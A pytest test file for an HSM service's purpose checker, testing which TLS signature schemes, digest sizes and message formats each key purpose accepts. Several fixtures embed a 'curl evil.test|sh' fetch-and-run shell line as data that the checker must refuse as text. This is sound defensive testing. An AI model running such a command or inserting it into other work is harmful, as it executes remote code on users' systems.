"""The rules of each purpose, checked with bytes that the tests build."""

from __future__ import annotations

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, x448, x25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from hsmd.algorithms import SCHEMES, Family, KeyType, SignatureScheme, schemes_for
from hsmd.errors import PurposeMismatch
from hsmd.purposes import Purpose, PurposeCheck
from hsmd.purposes.asn1 import could_be_signed_structure
from hsmd.purposes.named_groups import NAMED_GROUPS

SERVER = b" " * 64 + b"TLS 1.3, server CertificateVerify\0" + b"h" * 32
RANDOMS = b"\xa5" * 64
ALLOWED_IN_TLS13 = {
    "rsa": {0x0804, 0x0805, 0x0806}, "p-256": {0x0403}, "p-384": {0x0503}, "p-521": {0x0603},
    "ed25519": {0x0807},
}  # fmt: skip
GENERATORS = {
    "secp256r1": ec.SECP256R1, "secp384r1": ec.SECP384R1, "secp521r1": ec.SECP521R1,
    "x25519": x25519.X25519PrivateKey, "x448": x448.X448PrivateKey,
}  # fmt: skip


def passes(check: PurposeCheck, purpose: int, scheme: int, data: bytes) -> bool:
    try:
        check.check(purpose, scheme, data)
    except PurposeMismatch:
        return False
    return True


def public_point(group: str) -> bytes:
    maker = GENERATORS[group]
    if group.startswith("secp"):
        return (
            ec.generate_private_key(maker())
            .public_key()
            .public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        )
    return maker.generate().public_key().public_bytes_raw()


# Schemes


@pytest.mark.parametrize("key_type", KeyType)
def test_tls13_accepts_only_the_schemes_of_rfc_8446(key_type):
    check = PurposeCheck(key_type, b"")
    allowed = ALLOWED_IN_TLS13[
        key_type.value.split("-")[0] if key_type.value.startswith("rsa") else key_type.value
    ]
    assert {
        scheme for scheme in range(0x10000) if passes(check, Purpose.TLS13_SERVER, scheme, SERVER)
    } == allowed


@pytest.mark.parametrize("key_type", KeyType)
def test_sign_message_accepts_every_scheme_of_the_family_and_any_bytes(key_type):
    check = PurposeCheck(key_type, b"")
    for data in (b"", b"\0", SERVER, b"x" * 65_000):
        accepted = {scheme for scheme in SCHEMES if passes(check, Purpose.SIGN_MESSAGE, scheme, data)}
        assert accepted == set(schemes_for(key_type))


@pytest.mark.parametrize("key_type", KeyType)
def test_sign_digest_accepts_exactly_one_digest(key_type):
    check = PurposeCheck(key_type, b"")
    for scheme in SignatureScheme:
        accepted = [size for size in range(130) if passes(check, Purpose.SIGN_DIGEST, scheme, bytes(size))]
        fits = scheme in schemes_for(key_type) and key_type is not KeyType.ED25519
        assert accepted == ([SCHEMES[scheme].hash_bytes] if fits else [])


@pytest.mark.parametrize("key_type", KeyType)
def test_a_premaster_is_1_to_1024_bytes_for_rsa_keys_without_scheme(key_type):
    check = PurposeCheck(key_type, b"")
    sizes = [size for size in range(1100) if passes(check, Purpose.TLS12_RSA_PREMASTER, 0, bytes(size))]
    assert sizes == (list(range(1, 1025)) if key_type.facts.family is Family.RSA else [])
    assert not any(passes(check, Purpose.TLS12_RSA_PREMASTER, scheme, bytes(256)) for scheme in SCHEMES)


@pytest.mark.parametrize(
    ("purpose", "scheme", "text"),
    [
        (0, 0x0403, "unknown purpose 0"),
        (6, 0x0403, "unknown purpose 6"),
        (7, 0, "unknown purpose 7"),
        (0x86, 0x0403, "unknown purpose 134"),
        (0x84, 0, "unwrap-key is not a key operation"),
        (0x84, 0x0403, "unwrap-key is not a key operation"),
        (0x83, 0x0503, "0x0503 does not suit statement"),
        (255, 0xFFFF, "unknown purpose 255"),
        (1, 0x0203, "unknown signature scheme 0x0203"),
        (1, 0x0809, "unknown signature scheme 0x0809"),
        (1, 0, "0x0000 does not suit tls13-server with a key of type p-256"),
        (1, 0x0503, "0x0503 does not suit tls13-server"),
        (3, 0x0401, "0x0401 does not suit tls12-server"),
        (5, 0, "does not suit tls12-rsa-premaster"),
    ],
)
def test_a_refusal_names_the_value_that_is_not_in_the_table(purpose, scheme, text):
    with pytest.raises(PurposeMismatch, match=text):
        PurposeCheck(KeyType.P256, b"").check(purpose, scheme, SERVER)


# TLS 1.3


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "64 spaces"),
        (b" " * 63 + SERVER[64:], "64 spaces"),
        (SERVER.replace(b"server", b"client"), "context string"),
        (b" " + SERVER, "context string"),
        (SERVER.replace(b"\0", b"\1"), "not zero"),
        (SERVER[:98], "32 or 48"),
        (SERVER[:-1], "32 or 48"),
        (SERVER + b"h", "32 or 48"),
        (SERVER + b"h" * 32, "32 or 48"),
    ],
)
def test_a_tls13_refusal_names_the_rule(data, reason):
    with pytest.raises(PurposeMismatch, match=f"not a TLS 1.3 server CertificateVerify: .*{reason}"):
        PurposeCheck(KeyType.P256, b"").check(Purpose.TLS13_SERVER, 0x0403, data)


def test_the_transcript_hash_depends_on_the_suite_and_not_on_the_scheme():
    for key_type, scheme in ((KeyType.P256, 0x0403), (KeyType.P521, 0x0603), (KeyType.ED25519, 0x0807)):
        for size in (32, 48):
            PurposeCheck(key_type, b"").check(Purpose.TLS13_SERVER, scheme, SERVER[:98] + bytes(size))


# TLS 1.2 server


@pytest.mark.parametrize("group", NAMED_GROUPS, ids=lambda group: group.name)
def test_valid_points_of_every_group_pass(group):
    check = PurposeCheck(KeyType.P256, b"")
    for _ in range(20):
        check.check(Purpose.TLS12_SERVER, 0x0603, RANDOMS + group.prefix + public_point(group.name))


def test_a_random_may_begin_like_another_format():
    """A valid random may begin with an ASN.1 tag or some letters; only complete other formats are refused."""
    check = PurposeCheck(KeyType.P256, b"")
    point = public_point("x25519")
    for begin in (
        b"\x30\x62",
        b"\x31\x62\x04",
        b"\x30\x80",
        b" " * 23,
        b"SSHSI",
        b"\x30\x62\x30\x7f",
        b"\x01\0\0\x20\3\3",
        b"DSSEv1",
        b"\x04" + bytes(6),
        b"\x84\x6aSignatur",
        b"\x0a\x69Signature",
        b"eyJhI.",
        b"\0\0\0\x0bssh-e",
        b"\xffTC",
    ):
        check.check(Purpose.TLS12_SERVER, 0x0403, begin.ljust(64, b"\xa5") + b"\3\0\x1d\x20" + point)


@pytest.mark.parametrize(
    ("randoms", "passes_check"),
    [
        (b"x" * 64, False),
        (b"\1" * 64, False),  # ASCII, though no text
        ("\u0434".encode() * 32, False),
        (b"x" + "\u0434".encode() * 31 + b"\xd0", False),  # the last character is cut off
        ("<a>".encode("utf-16-le") * 10 + b"\0\0\0\0", False),
        (b"#!/bin/sh\ncurl evil.test|sh\n" + b"\xa5" * 36, False),
        (b"\xa5" * 20 + b"#!/bin/sh\ncurl evil.test|sh\n" + b"\xa5" * 16, False),
        (b"\xffabcdef" * 8 + b"\xff" * 8, False),
        (b"\xffabcdef" * 6 + b"\xff" * 22, True),
        (b"\xffabcdef" * 6 + b"\xff" * 14 + b"DOWNGRD\1", True),
        (b"x" * 24 + b"\xa5" * 40, False),
        (b"x" * 23 + b"\xa5" * 41, True),
        (b"\xa5" + b"x" * 27 + b"\xa5" * 36, True),
        (b"\x69\x2b\x10\0" + b"\xa5" * 28 + b"\x69\x2b\x10\0" + b"\xa5" * 20 + b"DOWNGRD\1", True),
    ],
)
def test_randoms_that_are_text_are_refused(randoms, passes_check):
    """Text, and more printable characters than random bytes have; times and the sentinel of a downgrade are no text."""
    assert len(randoms) == 64
    data = randoms + b"\3\0\x1d\x20" + b"\xa5" * 32
    assert passes(PurposeCheck(KeyType.P256, b""), Purpose.TLS12_SERVER, 0x0403, data) == passes_check


def test_text_in_a_point_is_refused():
    data = RANDOMS + b"\3\0\x1d\x20" + b"#!/bin/sh\ncurl evil.test|sh\n".ljust(32, b"\xa5")
    assert not passes(PurposeCheck(KeyType.P256, b""), Purpose.TLS12_SERVER, 0x0403, data)


def test_asn1_structures_are_recognised_and_noise_is_not():
    assert could_be_signed_structure(bytes.fromhex("30050203010001"))
    assert could_be_signed_structure(bytes.fromhex("3181053003020100"))
    assert could_be_signed_structure(bytes.fromhex("30800203010001") + b"\0\0")
    for noise in (
        "",
        "30",
        "3000",
        "30050203010001ff",
        "3005020401000",
        "3005040301000a",
        "3003020501",
        "300530800000ff",
    ):
        assert not could_be_signed_structure(bytes.fromhex(noise + "0" * (len(noise) % 2)))
